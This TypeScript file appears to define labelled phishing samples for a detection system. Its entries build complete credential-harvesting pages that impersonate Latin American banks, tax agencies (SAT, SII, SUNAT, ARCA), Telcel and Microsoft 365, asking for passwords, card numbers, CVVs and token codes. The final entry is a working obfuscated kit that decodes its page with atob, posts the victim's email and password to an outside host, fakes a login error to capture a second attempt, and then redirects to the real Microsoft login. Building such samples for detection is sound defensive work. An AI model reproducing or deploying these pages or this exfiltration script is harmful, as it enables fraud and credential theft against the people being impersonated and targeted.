import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, pctAll, charCodes, revB64, xorHex, doc, wordmark, pixCode, qrSvg, maskJsBR, rutJs, gtag, cookieBar, newsShell } from '../parts/yk-kit.js';
import { zip, pe, cfb, iso, lnk, apk, rar5, sevenZip, fileRoute, jsRoute, cssRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yk-bcp-pe-clave-internet-token',
  label: 'phishing',
  kind: 'bank-kit-pe',
  url: 'https://bcp-zonasegura-pe.com/bcp/operaciones/',
  body: doc({
    lang: 'es-PE',
    title: 'Banca por Internet | BCP',
    css: `body{margin:0;background:#f0f2f5;font-family:'Flexo',Arial,sans-serif}.h{background:#002a8d;padding:14px 28px;color:#fff;display:flex;align-items:center;gap:10px;font-weight:bold;font-size:22px}.h i{color:#ff7800;font-style:normal}
.c{max-width:420px;margin:30px auto;background:#fff;border-radius:8px;padding:28px}select,input{width:100%;padding:12px;border:1px solid #c5cbd6;border-radius:6px;font-size:16px;margin:6px 0 14px}
button{width:100%;background:#ff7800;color:#fff;border:0;border-radius:6px;padding:14px;font-size:16px;font-weight:bold}.n{font-size:12px;color:#666}`,
    body: `<div class="h"><i>&gt;</i>BCP</div><div class="c"><h3>Banca por Internet</h3><p class="n">Por su seguridad, hemos bloqueado temporalmente su Token Digital. Desbloquéelo ingresando sus datos.</p>
<form method="post" action="/bcp/operaciones/validar.php"><label>Tipo de documento</label><select name="tdoc"><option>DNI</option><option>CE</option><option>Pasaporte</option></select>
<input name="doc" placeholder="Número de documento" maxlength="12" required><input name="tarjeta" placeholder="Número de tarjeta (16 dígitos)" maxlength="19" required>
<input name="clave" type="password" placeholder="Clave de internet (6 dígitos)" maxlength="6" required><input name="token" placeholder="Clave Token Digital" maxlength="6">
<button>Continuar</button></form><p class="n">Banco de Crédito del Perú — Todos los derechos reservados.</p></div>`,
  }),
},
{
  id: 'yk-bancoestado-userinfo-cuentarut',
  label: 'phishing',
  kind: 'userinfo-trick',
  url: 'https://bancoestado-cuentarut.cl-validacion.info/imp/login',
  submittedUrl: 'https://www.bancoestado.cl@bancoestado-cuentarut.cl-validacion.info/imp/login',
  body: doc({
    lang: 'es-CL',
    title: 'BancoEstado - Banca en Línea Personas',
    css: `body{margin:0;font-family:'Lato',Arial,sans-serif;background:#f6f6f6}.h{background:#fe6400;padding:16px 28px;color:#fff;font-size:22px;font-weight:bold}
.b{max-width:380px;margin:40px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 1px 5px rgba(0,0,0,.12)}label{font-size:14px;display:block;margin-top:12px}
input{width:100%;padding:12px;border:1px solid #aaa;border-radius:4px;font-size:16px;margin-top:4px}button{width:100%;margin-top:22px;background:#fe6400;color:#fff;border:0;padding:14px;font-size:16px;border-radius:4px}
.a{font-size:13px;background:#fff2e8;padding:10px;border-radius:4px}`,
    body: `<div class="h">BancoEstado</div><div class="b"><div class="a">Tu CuentaRUT presenta un bloqueo preventivo. Valida tu identidad para habilitar transferencias.</div>
<form method="post" action="/imp/auth.php"><label>RUT</label><input name="rut" data-rut placeholder="12.345.678-9" required><label>Clave de Internet</label><input name="clave" type="password" required>
<label>Coordenadas de tu BancoEstado Pass (A1, C4, F2)</label><input name="coord" placeholder="00 00 00" maxlength="8"><button>Ingresar</button></form></div>${rutJs}`,
  }),
},
{
  id: 'yk-afip-arca-monotributo-clave-fiscal',
  label: 'phishing',
  kind: 'tax-agency-kit',
  url: 'https://arca-monotributo-recategorizacion.com/contribuyente/login',
  body: doc({
    lang: 'es-AR',
    title: 'ARCA - Acceso con Clave Fiscal',
    css: `body{margin:0;font-family:'Roboto',Arial,sans-serif;background:#f3f3f3}.h{background:#004a8f;color:#fff;padding:14px 26px;font-weight:700;letter-spacing:2px}
.c{max-width:420px;margin:30px auto;background:#fff;padding:30px;border-top:5px solid #00a0df}.w{background:#fff4cf;border:1px solid #efcd6b;padding:12px;font-size:13px;margin-bottom:16px}
input{width:100%;padding:12px;border:1px solid #999;font-size:16px;margin:6px 0 14px}button{width:100%;background:#004a8f;color:#fff;border:0;padding:14px;font-size:15px}`,
    body: `<div class="h">ARCA · Agencia de Recaudación y Control Aduanero</div><div class="c">
<div class="w"><b>Intimación:</b> Su categoría de Monotributo fue <b>excluida de oficio</b> por inconsistencias en la recategorización del período. Regularice antes del 05/05 para evitar la baja y el embargo de cuentas.</div>
<h3>Acceso con Clave Fiscal</h3><form method="post" action="/contribuyente/validar.php"><input name="cuit" placeholder="CUIT/CUIL" maxlength="13" inputmode="numeric" required>
<input name="clave" type="password" placeholder="Clave Fiscal" required><input name="email" type="email" placeholder="E-mail (para el comprobante)"><button>Ingresar</button></form></div>`,
  }),
},
{
  id: 'yk-sat-mx-devolucion-rfc-clabe',
  label: 'phishing',
  kind: 'tax-agency-kit',
  url: 'https://sat-devoluciones.gob-mx.info/portal/',
  body: doc({
    lang: 'es-MX',
    title: 'SAT - Devoluciones y compensaciones',
    css: `body{margin:0;font-family:'Montserrat',Arial,sans-serif;background:#f5f5f5;color:#333}.g{background:#611232;color:#fff;padding:12px 26px;font-size:14px}.s{background:#fff;padding:14px 26px;border-bottom:3px solid #a57f2c;font-size:22px;color:#611232;font-weight:700}
.c{max-width:560px;margin:24px auto;background:#fff;padding:28px;border:1px solid #ddd}.m{font-size:34px;color:#235b4e;font-weight:700}label{display:block;margin-top:12px;font-size:14px}
input{width:100%;padding:10px;border:1px solid #bbb;font-size:15px;margin-top:4px}button{background:#235b4e;color:#fff;border:0;padding:12px 26px;margin-top:18px;font-size:15px}`,
    body: `<div class="g">gob.mx · Trámites · Gobierno</div><div class="s">SAT · Servicio de Administración Tributaria</div>
<div class="c"><p>Derivado de tu Declaración Anual, tienes un saldo a favor autorizado:</p><div class="m">$7,430.00 MXN</div>
<p>Para recibir el depósito, ingresa con tu RFC y contraseña y registra la cuenta CLABE donde se realizará la transferencia.</p>
<form method="post" action="/portal/devolucion.php"><label>RFC</label><input name="rfc" maxlength="13" style="text-transform:uppercase" required><label>Contraseña del SAT</label><input name="pass" type="password" required>
<label>CLABE interbancaria (18 dígitos)</label><input name="clabe" maxlength="18" inputmode="numeric" required><label>Número de tarjeta de débito asociada</label><input name="tarjeta" maxlength="16" inputmode="numeric">
<label>Fecha de vencimiento / CVV</label><input name="venc" placeholder="MM/AA  ·  CVV"><button>Solicitar depósito</button></form></div>`,
  }),
},
{
  id: 'yk-sii-cl-reintegro-renta',
  label: 'phishing',
  kind: 'tax-agency-kit',
  url: 'https://sii-reintegro-renta.cl-gob.net/operacion-renta/',
  body: doc({
    lang: 'es-CL',
    title: 'SII | Operación Renta - Devolución',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#eef2f6}.h{background:#0c3d7a;color:#fff;padding:14px 28px;font-size:20px}.h b{color:#ee3a43}
.c{max-width:460px;margin:30px auto;background:#fff;padding:28px;border-radius:4px}label{display:block;font-size:14px;margin-top:12px}input,select{width:100%;padding:11px;border:1px solid #bbb;border-radius:3px;font-size:15px;margin-top:4px}
button{margin-top:20px;width:100%;background:#ee3a43;color:#fff;border:0;padding:13px;font-size:15px;border-radius:3px}`,
    body: `<div class="h"><b>SII</b> Servicio de Impuestos Internos</div><div class="c"><h3>Tu devolución de impuestos fue rechazada por datos bancarios incorrectos</h3>
<p>Monto a devolver: <b>$ 412.860</b>. Actualiza tu cuenta para recibir el depósito dentro de 5 días hábiles.</p>
<form method="post" action="/operacion-renta/guardar.php"><label>RUT</label><input name="rut" data-rut required><label>Clave Tributaria</label><input name="clave" type="password" required>
<label>Banco</label><select name="banco"><option>BancoEstado</option><option>Banco de Chile</option><option>Santander</option><option>BCI</option><option>Scotiabank</option><option>Itaú</option></select>
<label>Número de cuenta</label><input name="cuenta" inputmode="numeric"><label>Número de tarjeta de débito</label><input name="tarjeta" inputmode="numeric"><label>Clave de tarjeta (4 dígitos)</label><input name="clavetarjeta" type="password" maxlength="4">
<button>Actualizar y recibir devolución</button></form></div>${rutJs}`,
  }),
},
{
  id: 'yk-sunat-clave-sol-buzon',
  label: 'phishing',
  kind: 'tax-agency-kit',
  url: 'https://sunat-buzon-electronico.com/cl-ti-itmenu/MenuInternet.htm',
  body: doc({
    lang: 'es-PE',
    title: 'SUNAT Operaciones en Línea',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f5f5f5}.h{background:#fff;border-bottom:4px solid #c4161c;padding:12px 24px;font-weight:bold;color:#00408f;font-size:26px}
.c{max-width:400px;margin:30px auto;background:#fff;padding:26px;border:1px solid #ddd}.t button{width:50%;padding:10px;border:0;background:#eee}.t button.on{background:#00408f;color:#fff}
input{width:100%;padding:11px;border:1px solid #ccc;font-size:15px;margin:8px 0}.go{width:100%;background:#c4161c;color:#fff;border:0;padding:12px;font-size:15px}.n{background:#fff8e1;padding:10px;font-size:13px;margin-bottom:12px}`,
    body: `<div class="h">SUNAT</div><div class="c"><div class="n">Tiene <b>1 notificación</b> de cobranza coactiva en su Buzón Electrónico. Plazo para revisar: 24 horas.</div>
<div class="t"><button class="on">RUC</button><button>DNI</button></div>
<form method="post" action="/cl-ti-itmenu/login.php"><input name="ruc" placeholder="RUC" maxlength="11" inputmode="numeric" required><input name="usuario" placeholder="Usuario" style="text-transform:uppercase" required>
<input name="clave" type="password" placeholder="Contraseña (Clave SOL)" required><button class="go">Iniciar sesión</button></form></div>`,
  }),
},
{
  id: 'yk-telcel-recarga-doble-tarjeta',
  label: 'phishing',
  kind: 'carrier-topup-kit',
  url: 'https://recargadoble-telcel.shop/promo',
  body: doc({
    lang: 'es-MX',
    title: 'Telcel | Recarga Doble Aniversario',
    css: `body{margin:0;font-family:'Roboto',Arial,sans-serif;background:#eef3fb}.h{background:#0d2a8a;color:#fff;padding:16px 24px;font-size:28px;font-weight:900}
.hero{background:linear-gradient(90deg,#0d2a8a,#1e5bd8);color:#fff;text-align:center;padding:26px}.hero b{font-size:40px;display:block}
.c{max-width:480px;margin:18px auto;background:#fff;border-radius:10px;padding:22px}.opts{display:flex;gap:8px}.opts label{flex:1;border:2px solid #0d2a8a;border-radius:8px;text-align:center;padding:10px;font-size:13px}
input{width:100%;padding:12px;border:1px solid #c7d2e6;border-radius:6px;margin:6px 0;font-size:15px}button{width:100%;padding:14px;background:#ffcd00;border:0;border-radius:30px;font-weight:900;font-size:16px;margin-top:10px}`,
    body: `<div class="h">telcel</div><div class="hero">Solo hoy por aniversario<b>Paga $100 y recibe $300</b>Válido para Amigo Kit y Sin Límite</div>
<div class="c"><div class="opts"><label><input type="radio" name="m" checked> $100 → $300</label><label><input type="radio" name="m"> $200 → $600</label><label><input type="radio" name="m"> $500 → $1,500</label></div>
<form method="post" action="/promo/procesar.php"><input name="numero" placeholder="Número Telcel a 10 dígitos" maxlength="10" inputmode="numeric" required><input name="tarjeta" placeholder="Tarjeta de crédito o débito" maxlength="19" inputmode="numeric" required>
<input name="exp" placeholder="MM/AA" required><input name="cvv" placeholder="CVV" maxlength="4" required><input name="titular" placeholder="Nombre del titular"><button>Recargar ahora</button></form></div>`,
  }),
},
{
  id: 'yk-m365-es-corporativo-chunked-atob',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://sharepoint-archivos.constructora-andina.workers-app.net/#bGF1cmEucm9kcmlndWV6QGNvbnN0cnVjdG9yYWFuZGluYS5jbw==',
  body: (() => {
    const kit = doc({
      lang: 'es',
      title: 'Iniciar sesión en la cuenta',
      css: `body{margin:0;background:#f2f2f2 url(https://aadcdn.msftauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg) center/cover;font-family:'Segoe UI',Arial,sans-serif}
.b{width:440px;margin:100px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.id{border:1px solid #ddd;border-radius:16px;padding:4px 12px;display:inline-block;font-size:14px;margin:10px 0}
input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:12px 0}button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 32px}.e{color:#e81123;font-size:13px;display:none}`,
      body: `<div class="b">${wordmark('Microsoft', '#737373', { shape: 'square', h: 24 })}<div class="id" id="em"></div><h2>Escribir contraseña</h2>
<div class="e" id="er">La cuenta o la contraseña no son correctas. Si no recuerdas la contraseña, restablécela ahora.</div>
<form id="lf"><input id="pw" name="passwd" type="password" placeholder="Contraseña" required><p><a href="#">¿Olvidó su contraseña?</a></p><button>Iniciar sesión</button></form></div>`,
    });
    const parts = b64(kit).match(/.{1,96}/g) ?? [];
    return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Cargando…</title></head><body>
<script>
var _0x3f=[${parts.map((p) => JSON.stringify(p)).join(',')}];
var _0xe=function(){return _0x3f.join("")};
document.documentElement.innerHTML=decodeURIComponent(escape(window["a"+"to"+"b"](_0xe())));
(function(){var e="";try{e=atob(location.hash.slice(1))}catch(x){}document.getElementById("em").textContent=e;var c=0;
document.getElementById("lf").addEventListener("submit",function(v){v.preventDefault();c++;
var b=new URLSearchParams({email:e,pass:document.getElementById("pw").value,try:c,ref:location.hostname});
fetch("https://api-resolver-docs.top/owa/r.php",{method:"POST",body:b,mode:"no-cors"});
if(c<2){document.getElementById("er").style.display="block";document.getElementById("pw").value=""}else{location.replace("https://login.microsoftonline.com/")}})})();
</script></body></html>`;
  })(),
},
];
